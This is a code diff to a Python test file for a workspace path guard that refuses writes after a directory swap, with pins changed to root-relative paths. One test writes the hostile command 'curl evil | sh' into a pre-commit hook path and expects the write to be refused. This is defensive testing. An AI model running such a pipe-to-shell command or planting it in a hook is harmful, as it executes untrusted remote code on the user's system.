@@ -204,13 +204,29 @@ def test_pinned_write_refuses_after_a_swap(root: Path) -> None:
     target = ws.target("notes/real/pre-commit", write=True)
     assert target.resolved == "notes/real/pre-commit" and not target.redirected
     _swap_sub_to_up(root)
-    with pinned_targets({target.written: target.real}):  # type: ignore[dict-item]
-        with pytest.raises(PathRefused, match="changed after it was checked"):
-            ws.write_text("notes/real/pre-commit", "curl evil | sh")
+    # Pins are relative to the root; absolute ones (older checkpoints) still hold.
+    for pin in (target.resolved, target.real):
+        with pinned_targets({target.written: str(pin)}):
+            with pytest.raises(PathRefused, match="changed after it was checked"):
+                ws.write_text("notes/real/pre-commit", "curl evil | sh")
     assert not (root / "pre-commit").exists()
-    with pinned_targets({"notes/other.md": str(root / "notes/other.md")}):
+    with pinned_targets(
+        {"notes/other.md": "notes/other.md", "notes/b.md": str(root / "notes/b.md")}
+    ):
         ws.write_text("notes/other.md", "fine")  # unchanged paths still write
+        ws.write_text("notes/b.md", "fine")
     assert (root / "notes" / "other.md").read_text() == "fine"
+
+
+def test_a_pin_follows_a_moved_workspace(tmp_path: Path) -> None:
+    """A thread's workspace moved between the check and the run: the pin is
+    relative, so the write lands in the new place."""
+    (tmp_path / "A").mkdir()
+    target = Workspace(tmp_path / "A").target("out.txt", write=True)
+    (tmp_path / "A").rename(tmp_path / "B")
+    with pinned_targets({target.written: str(target.resolved)}):
+        Workspace(tmp_path / "B").write_text("out.txt", "moved")
+    assert (tmp_path / "B" / "out.txt").read_text() == "moved"
 
 
 class SwappingPolicy(Policy):
